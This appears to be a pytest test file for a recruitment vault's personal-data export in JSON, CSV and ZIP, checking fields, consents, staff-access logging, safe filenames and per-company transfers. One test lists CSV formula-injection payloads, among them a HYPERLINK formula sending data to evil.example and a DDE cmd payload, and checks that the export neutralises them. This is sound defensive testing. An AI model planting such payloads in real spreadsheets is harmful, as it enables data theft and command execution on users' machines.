from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import select

from tests import files
from tests.csv_tables import read_tables
from tests.export_schema import schema_errors
from vault.appctx import vault_keys
from vault.extensions import db
from vault.models import Candidate, User
from vault.privacy import NOTICE_VERSION
from vault.services import audit, consent, exports, requests
from vault.services.candidates import (
    CandidateInput,
    EducationInput,
    create_candidate,
    records_of_person,
)
from vault.services.notes import add_note
from vault.services.vacancies import create_vacancy
from vault.uploads import inspect_upload

NAME = "Els Verhaegen-Übelhör"
EMAIL = "els.verhaegen@example.org"
CV_BYTES = files.pdf_with_text("Els Verhaegen: Python, Kafka, Terraform")
NOTE = "Strong on streaming; call back in spring."


def person_input(**overrides: object) -> CandidateInput:
    values: dict[str, object] = {
        "full_name": NAME, "email": EMAIL, "phone": "+32 470 99 88 77",
        "position": "Platform engineer", "age": "34", "gender": "non-binary",
        "interests": "climbing, mentoring",
        "education": (EducationInput("Master of Science", "Physics", "UGent", "2014"),
                      EducationInput("Bachelor", "Mathematics", "VUB", "2012")),
        "cv": inspect_upload(CV_BYTES, "Els CV (2026).pdf"),
    }
    values.update(overrides)
    return CandidateInput(**values)  # type: ignore[arg-type]


def make_person(app, clock, make_user, **overrides: object) -> tuple[str, int]:
    """A record with a vacancy, consents, a note, staff access and a request."""
    recruiter_id = make_user(role="recruiter", company="Ingenium",
                             email="rita.recruiter@group.example")
    with app.app_context():
        session, keys = db.session, vault_keys()
        vacancy = create_vacancy(session, company="Ingenium", title="Platform engineer",
                                 location="Ghent", companies=app.config["COMPANIES"],
                                 now=clock())
        record = create_candidate(session, keys, person_input(**overrides), now=clock(),
                                  vacancy_id=vacancy.id)
        consent.record_consent(session, record, consent.APPLICATION, consent.GRANTED,
                               notice_version=NOTICE_VERSION, source="apply", now=clock())
        consent.grant_pool_consent(session, record, months=24, notice_version=NOTICE_VERSION,
                                   source="apply", now=clock())
        recruiter = session.get(User, recruiter_id)
        actor = audit.Actor("user", recruiter.id, recruiter.role)
        clock.advance(days=1)
        add_note(session, keys, record, NOTE, author=actor, company=recruiter.company,
                 now=clock())
        audit.record(session, actor, audit.CANDIDATE_VIEWED, now=clock(),
                     subject=record.public_id)
        audit.record(session, actor, audit.CV_DOWNLOADED, now=clock(), subject=record.public_id)
        requests.log_request(session, record.public_id, "access", channel=requests.SELF_SERVICE,
                             now=clock(), due_days=28, fulfilled=True)
        session.commit()
        return record.public_id, recruiter_id


def person(public_id: str) -> list[Candidate]:
    anchor = db.session.scalar(select(Candidate).where(Candidate.public_id == public_id))
    return records_of_person(db.session, anchor)


def document_of(public_id: str, clock) -> dict:
    return exports.build_export(db.session, vault_keys(), person(public_id), now=clock())


def test_json_export_holds_every_field_given(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        document = json.loads(exports.export_json(document_of(public_id, clock)))
    assert document["schema"] == exports.SCHEMA_ID
    assert document["schema_version"] == exports.SCHEMA_VERSION == 1
    assert document["exported_at"] == clock().isoformat()
    [record] = document["records"]
    assert record["public_id"] == public_id
    assert record["source"] == "apply" and record["status"] == "new"
    assert record["vacancy"]["title"] == "Platform engineer"
    assert record["vacancy"]["company"] == "Ingenium"
    assert record["contact"] == {"full_name": NAME, "email": EMAIL, "phone": "+32 470 99 88 77"}
    assert record["position"] == "Platform engineer"
    assert record["personal"] == {"age": "34", "gender": "non-binary"}
    assert record["interests"] == "climbing, mentoring"
    assert record["education"] == [
        {"degree": "Master of Science", "field": "Physics", "institution": "UGent",
         "year": "2014"},
        {"degree": "Bachelor", "field": "Mathematics", "institution": "VUB", "year": "2012"}]
    [cv] = record["documents"]
    assert (cv["filename"], cv["media_type"], cv["text_extracted"]) == (
        "Els CV (2026).pdf", "application/pdf", True)
    assert cv["zip_path"].startswith(f"cv/{public_id}-")


def test_json_export_lists_every_consent_event(app, clock, make_user):
    start = clock()
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        [record] = document_of(public_id, clock)["records"]
    application, pool = record["consents"]
    assert (application["purpose"], application["event"], application["source"]) == (
        "application", "granted", "apply")
    assert application["notice_version"] == NOTICE_VERSION
    assert application["at"] == start.isoformat() and application["expires_at"] is None
    assert (pool["purpose"], pool["event"]) == ("talent_pool", "granted")
    assert pool["expires_at"] == consent.add_months(start, 24).isoformat()
    assert record["talent_pool_until"] == pool["expires_at"]


def test_notes_show_body_and_date_but_not_who_wrote_them(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        document = document_of(public_id, clock)
    [note] = document["records"][0]["notes"]
    assert note == {"written_at": (clock()).isoformat(), "author": "staff",
                    "company": "Ingenium", "body": NOTE}
    assert "rita.recruiter" not in json.dumps(document)


def test_staff_access_shows_role_company_and_time_never_the_staff_member(app, clock,
                                                                        make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        document = document_of(public_id, clock)
    access = document["records"][0]["staff_access"]
    assert access == [
        {"at": clock().isoformat(), "role": "recruiter", "company": "Ingenium",
         "action": audit.CANDIDATE_VIEWED},
        {"at": clock().isoformat(), "role": "recruiter", "company": "Ingenium",
         "action": audit.CV_DOWNLOADED}]
    # Adding the note is staff work, not opening the data; and no id, name or address leaks.
    assert all(set(row) == {"at", "role", "company", "action"} for row in access)
    assert "rita.recruiter" not in json.dumps(document)


def test_requests_show_kind_dates_and_status(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        [request] = document_of(public_id, clock)["records"][0]["requests"]
    assert request == {"kind": "access", "channel": "self-service",
                       "received_at": clock().isoformat(),
                       "due_at": (clock() + timedelta(days=28)).isoformat(),
                       "status": "fulfilled", "fulfilled_at": clock().isoformat()}


def test_every_record_of_the_person_is_exported_with_its_public_id(app, clock, make_user):
    first, _ = make_person(app, clock, make_user)
    with app.app_context():
        second = create_candidate(db.session, vault_keys(), person_input(cv=None), now=clock(),
                                  source="spontaneous")
        create_candidate(db.session, vault_keys(), person_input(email="other@example.org"),
                         now=clock())
        db.session.commit()
        document = document_of(first, clock)
        second_id = second.public_id
    assert [r["public_id"] for r in document["records"]] == [first, second_id]
    assert document["records"][1]["vacancy"] is None
    assert document["records"][1]["documents"] == []


@pytest.mark.parametrize("dangerous", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20A1",
])
def test_csv_neutralises_cells_a_spreadsheet_would_run(app, clock, make_user, dangerous):
    public_id, _ = make_person(app, clock, make_user, full_name=dangerous, interests=dangerous)
    with app.app_context():
        body = exports.export_csv(document_of(public_id, clock))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    [details] = read_tables(body)["Your details"].rows
    assert details["full_name"] == "'" + dangerous
    assert details["interests"] == "'" + dangerous
    assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)


def test_csv_is_utf8_with_bom_and_holds_the_same_values(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        document = document_of(public_id, clock)
        body = exports.export_csv(document)
    assert body.startswith(b"\xef\xbb\xbf")
    tables = read_tables(body)
    assert list(tables) == ["Your details", "Education", "CV files", "Consents",
                            "Notes our staff wrote about you", "Who opened your data",
                            "Your requests"]
    assert {row["public_id"] for t in tables.values() for row in t.rows} == {public_id}
    [details] = tables["Your details"].rows
    assert (details["full_name"], details["vacancy_title"], details["vacancy_company"]) == (
        NAME, "Platform engineer", "Ingenium")
    assert [row["institution"] for row in tables["Education"].rows] == ["UGent", "VUB"]
    assert [row["text_extracted"] for row in tables["CV files"].rows] == ["yes"]
    assert [row["body"] for row in tables["Notes our staff wrote about you"].rows] == [NOTE]
    assert [row["action"] for row in tables["Who opened your data"].rows] == [
        audit.CANDIDATE_VIEWED, audit.CV_DOWNLOADED]
    assert [row["kind"] for row in tables["Your requests"].rows] == ["access"]
    assert [row["purpose"] for row in tables["Consents"].rows] == ["application", "talent_pool"]


def test_zip_holds_the_exact_cv_bytes_under_safe_names(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        records = person(public_id)
        document = exports.build_export(db.session, vault_keys(), records, now=clock())
        body = exports.export_zip(vault_keys(), records, document)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        names = archive.namelist()
        [cv_path] = [d["zip_path"] for d in document["records"][0]["documents"]]
        assert sorted(names) == sorted(["README.txt", "export.json", "export.csv",
                                        "export.resume.json", cv_path])
        assert archive.read(cv_path) == CV_BYTES
        assert json.loads(archive.read("export.json")) == document
        assert archive.read("export.csv") == exports.export_csv(document)
        readme = archive.read("README.txt").decode()
    for name in names:
        assert name.isascii() and not name.startswith("/") and "\\" not in name
        assert ".." not in name and " " not in name and ":" not in name
    assert cv_path.endswith(".pdf") and "Els" not in cv_path
    assert "export.json" in readme and "export.csv" in readme and "schema" in readme


def test_render_gives_each_format_and_refuses_others(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        records = person(public_id)
        keys = vault_keys()
        as_json = exports.render(db.session, keys, records, "json", now=clock())
        as_csv = exports.render(db.session, keys, records, "csv", now=clock())
        as_zip = exports.render(db.session, keys, records, "zip", now=clock())
        with pytest.raises(ValueError, match="unknown export format"):
            exports.render(db.session, keys, records, "xml", now=clock())
    assert json.loads(as_json)["records"][0]["public_id"] == public_id
    assert as_csv.startswith(b"\xef\xbb\xbf") and as_zip.startswith(b"PK\x03\x04")
    assert set(exports.EXPORT_FILENAMES) == set(exports.MEDIA_TYPES) == {
        "json", "csv", "zip", "resume.json"}
    assert exports.EXPORT_FILENAMES == {"json": "export.json", "csv": "export.csv",
                                        "zip": "export.zip",
                                        "resume.json": "export.resume.json"}


def _spontaneous(app, clock, companies: tuple[str, ...]) -> str:
    with app.app_context():
        record = create_candidate(db.session, vault_keys(), person_input(), now=clock(),
                                  source="spontaneous", companies=companies)
        db.session.commit()
        return record.public_id


def test_export_carries_the_companies_a_spontaneous_application_names(app, clock):
    public_id = _spontaneous(app, clock, ("Hoptimize", "Ingenium"))
    with app.app_context():
        document = document_of(public_id, clock)
        [details] = read_tables(exports.export_csv(document))["Your details"].rows
    [record] = document["records"]
    assert record["vacancy"] is None and record["companies"] == ["Hoptimize", "Ingenium"]
    assert details["companies"] == "Hoptimize; Ingenium" and details["vacancy_title"] == ""


def test_an_application_to_a_vacancy_exports_no_named_companies(app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        [record] = document_of(public_id, clock)["records"]
    assert record["companies"] == [] and record["vacancy"]["company"] == "Ingenium"


def test_a_transfer_leaves_out_other_companies_records_and_the_vaults_own_handling(
        app, clock, make_user):
    public_id, _ = make_person(app, clock, make_user)
    with app.app_context():
        records = person(public_id)
        to_ingenium = exports.build_export(db.session, vault_keys(), records, now=clock(),
                                           transfer_to="Ingenium")
        to_hoptimize = exports.build_export(db.session, vault_keys(), records, now=clock(),
                                            transfer_to="Hoptimize")
    [record] = to_ingenium["records"]
    assert record["public_id"] == public_id and record["contact"]["full_name"] == NAME
    assert (record["notes"], record["staff_access"], record["requests"]) == ([], [], [])
    assert record["vacancy"]["company"] == "Ingenium"
    # The record is Ingenium's application: Hoptimize's transfer has nothing of it.
    assert to_hoptimize["records"] == []
    assert schema_errors(to_ingenium) == [] and schema_errors(to_hoptimize) == []


@pytest.mark.parametrize("public_id", ["_b9DT09Cc5vVWNh92ifpLw", "Ab-_9", "9zz"])
def test_a_handed_over_documents_name_is_safe_for_every_public_id(public_id):
    """A public id may start with "_", which the header check refuses as a first
    character: the API's CV download answered 500 for one hired candidate in 64."""
    name = exports.staff_document_filename(Candidate(public_id=public_id), "cv-0123abcd.pdf")
    assert exports.content_disposition(name) == f'attachment; filename="{name}"'
